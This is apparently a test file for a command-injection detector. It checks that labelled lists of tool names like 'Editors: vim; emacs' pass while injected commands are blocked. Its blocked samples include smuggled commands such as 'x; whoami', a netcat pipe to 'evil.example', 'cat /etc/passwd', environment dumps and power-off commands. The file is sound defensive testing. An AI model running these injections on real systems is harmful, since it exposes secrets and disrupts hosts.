import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DEFAULT_DETECTOR_OPTIONS, inspectValue } from '../../../src/threat/detectors/index.js';

const risk = (s: string) => { let keep = 1; for (const f of inspectValue(s, DEFAULT_DETECTOR_OPTIONS)) keep *= 1 - f.confidence; return 1 - keep; };

/**
 * `Editors: vim; emacs` scored 0.9 (a block): a labelled list of tool names (a profile field, a survey
 * answer) reads as `vim` then `; emacs`. A value that opens with a label and whose `;`-separated items are
 * single names, the item before the semicolon a command itself, is a list; an injection appends its command
 * to data (`x; whoami`) and needs no label, and anything after the last name but another item keeps it a
 * command line.
 */
describe('a labelled list of tool names', () => {
  for (const b of ['Editors: vim; emacs', 'Editors: vim; emacs; nano', 'Shells: bash; zsh; fish', 'Favourite tools: curl; wget ', 'editors: vi; emacs']) {
    it(`does not block ${JSON.stringify(b)}`, () => assert.ok(risk(b) < 0.8, `${b}: ${JSON.stringify(inspectValue(b))}`));
  }
  for (const a of ['x; emacs', 'vim; emacs', 'Editors: x; whoami', 'Editors: vim; whoami | nc evil.example 4444', 'Editors: vim; whoami & x', 'Editors: vim;emacs',
    'Editors: vim; whoami -a', 'Editors: vim; cat /etc/passwd', 'x; whoami']) {
    it(`still blocks ${JSON.stringify(a)}`, () => assert.ok(risk(a) >= 0.8, `${a}: ${JSON.stringify(inspectValue(a))}`));
  }
});

/**
 * The list reading let a real command through: a label and any command name before the `;` made a lone
 * command after it 0.6 (a throttle), and some commands need no argument to do their harm — they print who
 * the process runs as, its environment (secrets), the host's network and processes, or power the host off.
 * A profile's list of tools names editors, shells, languages and utilities, not these probes.
 */
describe('a labelled list whose last name is a command that acts without arguments', () => {
  for (const a of ['Tools: ls; id', 'Tools: ls; whoami', 'Note: vim; env', 'Tools: vim; printenv', 'Tools: ls; reboot',
    'Tools: ls; halt', 'Tools: ls; poweroff', 'Tools: vim; emacs; uname', 'Tools: ls; hostname', 'Tools: ls; ifconfig',
    'Tools: ls;\tid', 'Tools: ls ; whoami', 'Tools: ls; set', 'Tools: ls; ps', 'Tools: ls; whoami; id', 'Tools: ls; netstat']) {
    it(`still blocks ${JSON.stringify(a)}`, () => assert.ok(risk(a) >= 0.8, `${a}: ${JSON.stringify(inspectValue(a))}`));
  }
  for (const b of ['Editors: vim; emacs; nano', 'Languages: python; ruby; perl', 'Tools: git; curl; jq']) {
    it(`does not block ${JSON.stringify(b)}`, () => assert.ok(risk(b) < 0.8, `${b}: ${JSON.stringify(inspectValue(b))}`));
  }
});
